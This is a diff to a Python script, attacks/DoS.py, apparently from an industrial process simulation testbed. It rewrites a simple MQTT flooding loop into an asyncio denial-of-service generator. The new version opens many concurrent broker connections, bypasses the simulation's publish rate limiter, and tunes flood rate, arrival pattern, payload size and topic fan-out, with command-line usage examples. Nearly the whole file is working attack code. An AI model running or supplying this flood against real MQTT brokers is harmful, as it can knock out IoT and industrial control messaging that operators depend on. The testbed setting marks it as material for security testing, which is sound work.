@@ -1,12 +1,248 @@
-import time
+"""
+MQTT Denial of Service Load Generator
+
+This module floods the MQTT broker from many concurrent client connections on
+one asyncio event loop. Each client publishes directly with gmqtt, bypassing
+the simulation's own publish rate limiter, so the offered load is exactly what
+was configured.
+
+The aggregate target rate is split evenly across the clients. Arrivals are
+open-loop: send times are drawn in advance (evenly spaced, or exponentially
+distributed for Poisson arrivals) and kept against the monotonic clock, so a
+slow broker makes the generator fall behind schedule rather than quietly lower
+the offered rate. Messages that are already due are sent back to back.
+
+Each client keeps at most `MAX_BUFFERED_BYTES` of unsent data in its transport.
+When the broker cannot keep up, the client waits for the socket to take the
+data instead of queueing it in memory, which also puts it behind schedule.
+The clock stops once the clients' buffers have drained, so the achieved rate
+counts messages written to the socket rather than into the local buffer.
+
+Usage:
+    $ python attacks/DoS.py --clients 50 --rate 5000 --duration 30
+    $ python attacks/DoS.py --arrival poisson --payload-size exp:512 --topics tank/tank1/volume --fanout 10
+
+Classes:
+    LoadGenerator - Runs the clients and collects the load report.
+    DoSAttack - Single-topic flood with the original start_attack API.
+
+Functions:
+    parse_payload_size - Parses a payload size distribution ("64", "uniform:16-1024", "exp:256").
+    format_report - Formats a load report as one line.
+"""
+
+import argparse
+import asyncio
+import os
 import random
 import sys
-import os
+import time
+
+from gmqtt import Client as MQTTClient
+
 # Add the root directory of the project to the Python path
 sys.path.append(os.path.abspath(os.path.join(os.path.dirname(__file__), "..")))
 
-from process_sim.interfaces.mqtt_interface import MQTTInterface
+from process_sim.interfaces.write_buffer import MAX_BUFFERED_BYTES, buffered, wait_for_buffer, drain, disconnect
+
+ARRIVALS = ("constant", "poisson")
+MAX_BURST = 1000  # messages sent before yielding to the event loop when behind schedule
+
+
+def parse_payload_size(spec):
+    """
+    Parses a payload size distribution.
+
+    Args:
+        spec (int or str): A fixed size ("64"), "uniform:<min>-<max>" or "exp:<mean>" (bytes).
+
+    Returns:
+        callable: Called with a `random.Random` to draw one size (at least 1 byte).
+    """
+    spec = str(spec)
+    kind, _, value = spec.partition(":")
+    if not value:
+        size = int(kind)
+        return lambda rng: size
+    if kind == "uniform":
+        low, high = (int(v) for v in value.split("-"))
+        return lambda rng: rng.randint(low, high)
+    if kind == "exp":
+        mean = float(value)
+        return lambda rng: max(1, int(rng.expovariate(1.0 / mean)))
+    raise ValueError(f"Unknown payload size distribution: {spec}")
+
+
+class LoadGenerator:
+    """
+    Publishes from many concurrent MQTT clients at a target aggregate rate.
+    """
+
+    def __init__(self, broker="127.0.0.1", port=1883, clients=10, rate=1000.0, arrival="constant",
+                 duration=10.0, count=None, topics=("dos/attack",), fanout=1, payload_size=64, qos=0,
+                 client_id="dos_attacker", seed=None):
+        """
+        Args:
+            broker (str): IP address of the MQTT broker.
+            port (int): Port number of the MQTT broker.
+            clients (int): Number of concurrent client connections.
+            rate (float or None): Target aggregate messages per second; None sends as fast as possible.
+            arrival (str): "constant" (evenly spaced) or "poisson" (exponential gaps).
+            duration (float or None): Seconds to run.
+            count (int, optional): Total messages to send; the run stops at whichever limit comes first.
+            topics (list): Topics to publish to.
+            fanout (int): Subtopics per topic; messages go round-robin to "<topic>/<0..fanout-1>".
+            payload_size (int or str): Payload size distribution (see `parse_payload_size`).
+            qos (int): MQTT QoS of the publishes.
+            client_id (str): Prefix of the client identifiers.
+            seed (int, optional): Seed for arrivals and payload sizes.
+        """
+        if arrival not in ARRIVALS:
+            raise ValueError(f"Unknown arrival process: {arrival}")
+        if duration is None and count is None:
+            raise ValueError("A duration or a message count is required")
+        self.broker = broker
+        self.port = port
+        self.clients = clients
+        self.rate = rate
+        self.arrival = arrival
+        self.duration = duration
+        self.count = count
+        self.qos = qos
+        self.client_id = client_id
+        self.seed = seed
+        self.topics = [f"{topic}/{i}" for topic in topics for i in range(fanout)] if fanout > 1 else list(topics)
+        self._payload_size = parse_payload_size(payload_size)
+        self._payload_pool = os.urandom(65536)
+        self._reset()
+
+    def _reset(self):
+        self.sent = 0
+        self.bytes = 0
+        self.errors = 0
+        self.connect_errors = 0
+        self.disconnects = 0
+        self.max_lag = 0.0
+        self.unsent_bytes = 0
+
+    def _payload(self, rng):
+        size = self._payload_size(rng)
+        pool = self._payload_pool
+        if size <= len(pool):
+            return pool[:size]
+        return pool * (size // len(pool)) + pool[:size % len(pool)]
+
+    async def _connect(self, index):
+        client = MQTTClient(f"{self.client_id}_{index}")
+
+        def on_disconnect(client, packet, exc=None):
+            self.disconnects += 1
+
+        try:
+            await client.connect(self.broker, self.port)
+        except Exception:
+            self.connect_errors += 1
+            return None
+        client.on_disconnect = on_disconnect
+        return client
+
+    async def _publish_loop(self, client, index, quota, start):
+        rng = random.Random(None if self.seed is None else self.seed + index)
+        rate = self.rate / self.clients if self.rate else None
+        deadline = start + self.duration if self.duration is not None else float("inf")
+        topics = self.topics
+        topic_index = index % len(topics)
+        due = start
+        sent = 0
+
+        while quota is None or sent < quota:
+            now = time.monotonic()
+            if now >= deadline:
+                break
+            if rate is not None and due > now:
+                await asyncio.sleep(due - now)
+                continue
+            if rate is not None:
+                self.max_lag = max(self.max_lag, now - due)
+
+            # Send everything already due (at most MAX_BURST) before yielding, while the socket keeps up
+            burst = delivered = 0
+            while (burst < MAX_BURST and (quota is None or sent < quota) and (rate is None or due <= now)
+                   and buffered(client) <= MAX_BUFFERED_BYTES):
+                payload = self._payload(rng)
+                try:
+                    client.publish(topics[topic_index], payload, qos=self.qos)
+                    self.bytes += len(payload)
+                    delivered += 1
+                except Exception:
+                    self.errors += 1
+                sent += 1
+                burst += 1
+                topic_index = (topic_index + 1) % len(topics)
+                if rate is not None:
+                    due += rng.expovariate(rate) if self.arrival == "poisson" else 1.0 / rate
+            self.sent += delivered
+            await asyncio.sleep(0)
+            await wait_for_buffer(client, MAX_BUFFERED_BYTES, deadline)
+
+        self.unsent_bytes += await drain(client)
+
+    async def run(self):
+        """
+        Connects the clients, runs the load and disconnects.
+
+        Returns:
+            dict: Load report (see `format_report`).
+        """
+        self._reset()
+        clients = await asyncio.gather(*(self._connect(i) for i in range(self.clients)))
+        connected = [(i, client) for i, client in enumerate(clients) if client is not None]
+
+        quotas = [None] * self.clients
+        if self.count is not None:
+            quotas = [self.count // self.clients + (1 if i < self.count % self.clients else 0)
+                      for i in range(self.clients)]
+
+        start = time.monotonic()
+        await asyncio.gather(*(self._publish_loop(client, i, quotas[i], start) for i, client in connected))
+        elapsed = time.monotonic() - start
+
+        for _, client in connected:
+            client.on_disconnect = lambda *args, **kwargs: None  # only count drops during the load
+        await asyncio.gather(*(disconnect(client) for _, client in connected), return_exceptions=True)
+        return {
+            "clients": self.clients,
+            "connected": len(connected),
+            "target_rate": self.rate,
+            "arrival": self.arrival,
+            "duration": elapsed,
+            "sent": self.sent,
+            "bytes": self.bytes,
+            "achieved_rate": self.sent / elapsed if elapsed > 0 else 0.0,
+            "unsent_bytes": self.unsent_bytes,
+            "errors": self.errors,
+            "connect_errors": self.connect_errors,
+            "disconnects": self.disconnects,
+            "max_lag_ms": self.max_lag * 1000.0,
+        }
+
+
+def format_report(report):
+    """
+    Formats a load report as one line.
 
+    Args:
+        report (dict): Report returned by `LoadGenerator.run`.
+
+    Returns:
+        str: Achieved versus target rate, error counts and schedule lag.
+    """
+    unsent = f", {report['unsent_bytes']} bytes never left the buffers" if report.get("unsent_bytes") else ""
+    target = f"{report['target_rate']:.0f} msg/s {report['arrival']}" if report["target_rate"] else "max rate"
+    return (f"{report['sent']} messages ({report['bytes'] / 1e6:.1f} MB) from {report['connected']}/"
+            f"{report['clients']} clients in {report['duration']:.2f}s: {report['achieved_rate']:.0f} msg/s "
+            f"(target {target}), {report['errors']} publish errors, {report['connect_errors']} connect errors, "
+            f"{report['disconnects']} disconnects, max lag {report['max_lag_ms']:.1f} ms{unsent}")
 
 
 class DoSAttack:
@@ -24,27 +260,51 @@ class DoSAttack:
             port (int): Port number of the MQTT broker.
             client_id (str): Unique identifier for the attacker client.
         """
-        self.mqtt = MQTTInterface(broker=broker, port=port, client_id=client_id)
+        self.broker = broker
+        self.port = port
+        self.client_id = client_id
 
-    def start_attack(self, topic="dos/attack", message_count=1000, delay=0.01):
+    def start_attack(self, topic="dos/attack", message_count=1000, delay=0.01, clients=1):
         """
         Starts the DoS attack by publishing a large number of messages to the broker.
 
         Args:
             topic (str): The MQTT topic to flood.
             message_count (int): Number of messages to send.
-            delay (float): Delay between messages in seconds.
+            delay (float): Delay between messages in seconds (0 for as fast as possible).
+            clients (int): Number of concurrent connections sharing the messages.
+
+        Returns:
+            dict: Load report.
         """
         print(f"[DoS] Starting attack on topic '{topic}' with {message_count} messages...")
-        for i in range(message_count):
-            message = f"RandomMessage-{random.randint(1, 100000)}"
-            self.mqtt.publish(topic, message)
-            print(f"[DoS] Published message {i + 1}/{message_count}: {message}")
-            time.sleep(delay)
-        print("[DoS] Attack completed.")
+        generator = LoadGenerator(self.broker, self.port, clients=clients, rate=1.0 / delay if delay > 0 else None,
+                                  duration=None, count=message_count, topics=[topic], client_id=self.client_id)
+        report = asyncio.run(generator.run())
+        print(f"[DoS] Attack completed: {format_report(report)}")
+        return report
 
-if __name__ == "__main__":
-    # Example usage
-    attacker = DoSAttack()
-    attacker.start_attack(topic="dos/attack", message_count=1000, delay=0.01)
 
+def parse_arguments(argv=None):
+    parser = argparse.ArgumentParser(description="MQTT load generator")
+    parser.add_argument("--broker", default="127.0.0.1", help="MQTT broker address")
+    parser.add_argument("--port", type=int, default=1883, help="MQTT broker port")
+    parser.add_argument("--clients", type=int, default=10, help="Concurrent client connections")
+    parser.add_argument("--rate", type=float, default=1000.0, help="Target aggregate msg/s (0 for as fast as possible)")
+    parser.add_argument("--arrival", choices=ARRIVALS, default="constant", help="Arrival process")
+    parser.add_argument("--duration", type=float, default=10.0, help="Seconds to run")
+    parser.add_argument("--count", type=int, default=None, help="Stop after this many messages")
+    parser.add_argument("--topics", nargs="+", default=["dos/attack"], help="Topics to flood")
+    parser.add_argument("--fanout", type=int, default=1, help="Subtopics per topic")
+    parser.add_argument("--payload-size", default="64", help="Bytes: N, uniform:MIN-MAX or exp:MEAN")
+    parser.add_argument("--qos", type=int, choices=(0, 1), default=0, help="MQTT QoS")
+    parser.add_argument("--seed", type=int, default=None, help="Random seed")
+    return parser.parse_args(argv)
+
+
+if __name__ == "__main__":
+    args = parse_arguments()
+    generator = LoadGenerator(args.broker, args.port, clients=args.clients, rate=args.rate or None,
+                              arrival=args.arrival, duration=args.duration, count=args.count, topics=args.topics,
+                              fanout=args.fanout, payload_size=args.payload_size, qos=args.qos, seed=args.seed)
+    print(f"[DoS] {format_report(asyncio.run(generator.run()))}")